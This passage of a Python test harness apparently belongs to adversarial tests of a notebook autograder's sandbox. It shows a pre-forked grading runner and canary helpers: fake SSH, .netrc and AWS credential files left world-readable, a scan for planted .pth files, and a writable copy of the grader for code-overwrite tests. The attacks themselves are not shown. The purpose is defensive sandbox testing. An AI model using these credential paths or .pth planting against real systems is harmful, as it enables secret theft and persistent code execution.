# one child per grade that runs exactly what the console script runs, ``mlgrader.cli.main``
# with the same argv, cwd and environment, with stdout/stderr to files and its return value
# as exit status. It saves the ~1.4 CPU-seconds of imports per grade (the test machine has
# two slow cores); each grade is still its own process, as with the console script.
ZYGOTE = """\
import json, os, select, sys, traceback
import mlgrader.cli, mlgrader.grading, mlgrader.checks, mlgrader.sandbox.kernel, nbclient, nbformat, numpy
requests, children = sys.stdin.buffer, {}
def reply(obj):
    sys.stdout.write(json.dumps(obj) + "\\n"); sys.stdout.flush()
reply({"ready": True})
while True:
    ready, _, _ = select.select([requests], [], [], 0.05)
    if ready:
        line = requests.readline()
        if not line:
            break
        job = json.loads(line)
        pid = os.fork()
        if pid == 0:
            code = 1
            try:
                os.chdir(job["cwd"])
                os.environ.clear(); os.environ.update(job["env"])
                for fd, path in ((1, job["out"]), (2, job["err"])):
                    os.dup2(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644), fd)
                os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
                sys.stdout = open(1, "w", closefd=False); sys.stderr = open(2, "w", closefd=False)
                sys.argv = ["mlgrader", *job["argv"]]
                try:
                    code = mlgrader.cli.main(job["argv"])
                except SystemExit as exc:
                    code = exc.code if isinstance(exc.code, int) else 1
                except BaseException:
                    traceback.print_exc()
                    code = 1
            finally:
                try:
                    sys.stdout.flush(); sys.stderr.flush()
                finally:
                    os._exit(code if isinstance(code, int) else 1)
        children[pid] = job["id"]
    while children:
        pid, status = os.waitpid(-1, os.WNOHANG)
        if pid == 0:
            break
        reply({"id": children.pop(pid), "rc": os.waitstatus_to_exitcode(status)})
"""


class Zygote:
    """Runs `mlgrader grade` argv lists in children of one pre-warmed process (see ZYGOTE)."""

    def __init__(self, scratch: Path):
        import threading

        self._scratch = Path(scratch)
        self._scratch.mkdir(parents=True, exist_ok=True)
        env = grader_env()
        env["OPENBLAS_NUM_THREADS"] = "1"  # no BLAS threads to lose across fork()
        self._proc = subprocess.Popen([sys.executable, "-P", "-c", ZYGOTE], stdin=subprocess.PIPE,
                                      stdout=subprocess.PIPE, env=env, cwd=self._scratch)
        assert json.loads(self._proc.stdout.readline()) == {"ready": True}
        self._lock = threading.Lock()
        self._waiting: dict[int, list] = {}
        self._next = 0
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self):
        for line in self._proc.stdout:
            message = json.loads(line)
            with self._lock:
                slot = self._waiting.get(message["id"])
            if slot is not None:
                slot[1] = message["rc"]
                slot[0].set()

    def run(self, argv: list[str], cwd: Path, env: dict[str, str], timeout: float) -> tuple[int, str, str]:
        import threading

        with self._lock:
            self._next += 1
            job_id = self._next
            slot = self._waiting[job_id] = [threading.Event(), None]
            out, err = self._scratch / f"{job_id}.out", self._scratch / f"{job_id}.err"
            self._proc.stdin.write((json.dumps({"id": job_id, "argv": argv, "cwd": str(cwd), "env": env,
                                                "out": str(out), "err": str(err)}) + "\n").encode())
            self._proc.stdin.flush()
        if not slot[0].wait(timeout):
            raise subprocess.TimeoutExpired(argv, timeout)
        return slot[1], out.read_text(errors="replace"), err.read_text(errors="replace")

    def close(self):
        self._proc.stdin.close()
        self._proc.wait(timeout=30)


def venv_bin() -> Path:
    return Path(sys.executable).parent


def grader_source() -> Path:
    """The folder of the mlgrader under test (a checkout may differ from the one installed)."""
    import mlgrader

    return Path(mlgrader.__file__).resolve().parent.parent


def grader_env(pythonpath: Path | None = None) -> dict[str, str]:
    env = dict(os.environ)
    env["PATH"] = os.pathsep.join([str(venv_bin()), env.get("PATH", "")])
    env.pop("MLGRADER_SANDBOX", None)
    env["PYTHONPATH"] = str(pythonpath or grader_source())
    return env


def grade(notebook: Path, *, mode: str, autograder_root: Path, cwd: Path, assignment: str | None = None,
          runner: str = "cli", pythonpath: Path | None = None, timeout: float = 300,
          zygote: Zygote | None = None) -> Outcome:
    """Grade ``notebook`` with the real command line (or the Python API, measuring memory).

    runner "console" runs the `mlgrader` console script; "cli" too, or with a ``zygote`` the
    same command line in a pre-warmed child; "api" calls grade_notebook() in a fresh interpreter
    and reports the grader's peak memory.
    """
    args = ["grade", str(notebook), "--json", "--autograder", str(autograder_root), "--sandbox", mode]
    if assignment:
        args += ["--assignment", assignment]
    started = time.monotonic()
    if runner == "cli" and zygote is not None and pythonpath is None:
        returncode, stdout, stderr = zygote.run(args, cwd, grader_env(), timeout)
    else:
        if runner in ("cli", "console"):
            mlgrader = venv_bin() / "mlgrader"
            argv = [str(mlgrader) if mlgrader.exists() else "mlgrader", *args]
        else:
            argv = [sys.executable, "-P", "-c", API_RUNNER, str(notebook), str(autograder_root), mode]
        proc = subprocess.run(argv, cwd=cwd, env=grader_env(pythonpath), capture_output=True, text=True,
                              errors="replace", timeout=timeout)
        returncode, stdout, stderr = proc.returncode, proc.stdout, proc.stderr
    outcome = Outcome(returncode, stdout, stderr, time.monotonic() - started)
    try:
        outcome.result = json.loads(stdout) if stdout.strip() else None
    except json.JSONDecodeError:
        outcome.result = None
    found = re.search(r"MLGRADER-GRADER-MAXRSS-MB=([0-9.]+)", stderr)
    if found:
        outcome.grader_rss_mb = float(found.group(1))
    return outcome


def processes_with(token: str) -> list[int]:
    """Pids of live processes whose command line or environment contains ``token``."""
    pids = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            if any(token.encode() in (proc / part).read_bytes() for part in ("cmdline", "environ")):
                pids.append(int(proc.name))
        except OSError:
            pass
    return pids


def copy_grader_source(root: Path, open_to_all: bool = False) -> Path:
    """A throwaway copy of src/ for attacks that overwrite the grader's code.

    ``open_to_all``: every user may write it (as a non-root grader's own installation is
    writable by its kernels, which run as the same user); ``root`` must then be one that
    every user may enter (see make_open_root).
    """
    import mlgrader

    target = root / "grader-src"
    if not target.exists():
        shutil.copytree(Path(mlgrader.__file__).resolve().parent, target / "mlgrader",
                        ignore=shutil.ignore_patterns("__pycache__"))
        if open_to_all:
            for path in [target, *target.rglob("*")]:
                path.chmod(0o777 if path.is_dir() else 0o666)
    return target


def make_open_root(token: str) -> Path:
    """A throwaway folder in the system's temporary folder that every user may read.

    It holds a home with secrets any user may read (mode 0644, as many are by mistake):
    without Landlock the fallback sandbox user reads them; the sandbox must not.
    """
    root = Path(tempfile.mkdtemp(prefix="mlgrader-adv-open-"))
    root.chmod(0o755)
    home = root / "home"
    for name, kind in ((".ssh/id_ed25519", "ssh"), (".netrc", "netrc"), (".aws/credentials", "aws")):
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"SECRET-{kind}-{token}\n")
        path.chmod(0o644)
    for folder in [home, *home.iterdir()]:
        if folder.is_dir():
            folder.chmod(0o755)
    return root


def python_folders() -> list[Path]:
    """The site-packages folders of the Python that grades (where a planted .pth would run)."""
    import site

    folders = {*site.getsitepackages(), site.getusersitepackages(), *(p for p in sys.path if p.endswith("-packages"))}
    return sorted(Path(f) for f in folders if os.path.isdir(f))


def planted(token: str, extra: list[Path] = ()) -> list[str]:
    """Files named after ``token`` in the grader's Python folders (and ``extra``): each removed."""
    found = []
    for folder in [*python_folders(), grader_source(), *extra]:
        for path in Path(folder).glob(f"*{token}*"):
            found.append(str(path))
            path.unlink()
    return found


__all__ = ["ATTACKS", "Attack", "Context", "Outcome", "build", "grade", "make_bundle", "make_course",
           "snapshot", "processes_with", "copy_grader_source", "make_open_root", "planted", "HIDDEN_LINES",
           "CANARY", "SOLUTION_MARK", "BASE_SCORES", "ANY_ASSIGNMENT_ATTACKS"]
